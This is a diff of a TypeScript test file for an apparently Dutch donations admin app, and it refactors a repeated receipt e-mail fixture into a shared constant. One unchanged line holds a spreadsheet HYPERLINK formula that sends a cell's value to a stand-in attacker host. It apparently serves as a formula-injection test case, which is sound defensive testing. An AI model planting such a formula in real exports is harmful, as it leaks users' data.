@@ -59,6 +59,16 @@ async function seedDonations({ app }: TestApp) {
 /** A formula with a semicolon and a line break in a string: still one formula for Excel. */
 const FORMULA_ON_TWO_LINES = '=HYPERLINK("http://kwaad.example/?e="&H2;"Bekijk\nbericht")';
 
+/** A stored receipt e-mail of the outbox (its status added per test). */
+const receiptMail = {
+  template: "receipt",
+  toAddress: "a@example.nl",
+  fromAddress: "noreply@example.nl",
+  subject: "Bedankt",
+  html: "<p>Bedankt</p>",
+  text: "Bedankt",
+};
+
 describe.each(engines)("admin donations on %s", (engine) => {
   it("filters by kind, destination, status and period, with totals in cents and weeks", async () => {
     const test = await buildTestApp({ engine });
@@ -263,15 +273,7 @@ describe("admin records", () => {
           status: "failed",
           lastError: "550 mailbox unavailable",
         },
-        {
-          template: "receipt",
-          toAddress: "a@example.nl",
-          fromAddress: "noreply@example.nl",
-          subject: "Bedankt",
-          html: "<p>Bedankt</p>",
-          text: "Bedankt",
-          status: "sent",
-        },
+        { ...receiptMail, status: "sent" },
       ])
       .returning();
     const volunteers = await app.inject({
@@ -300,19 +302,11 @@ describe("admin records", () => {
     const { app } = await buildTestApp();
     const { admin } = await adminAndMember(app);
     const { db } = app.services.database;
-    const mail = {
-      template: "receipt",
-      toAddress: "a@example.nl",
-      fromAddress: "noreply@example.nl",
-      subject: "Bedankt",
-      html: "<p>Bedankt</p>",
-      text: "Bedankt",
-    };
     const [failed, sent] = await db
       .insert(outboundEmails)
       .values([
-        { ...mail, status: "failed", attempts: 9, lastError: "connect ECONNREFUSED" },
-        { ...mail, status: "sent" },
+        { ...receiptMail, status: "failed", attempts: 9, lastError: "connect ECONNREFUSED" },
+        { ...receiptMail, status: "sent" },
       ])
       .returning();
     const resend = (id: string) =>
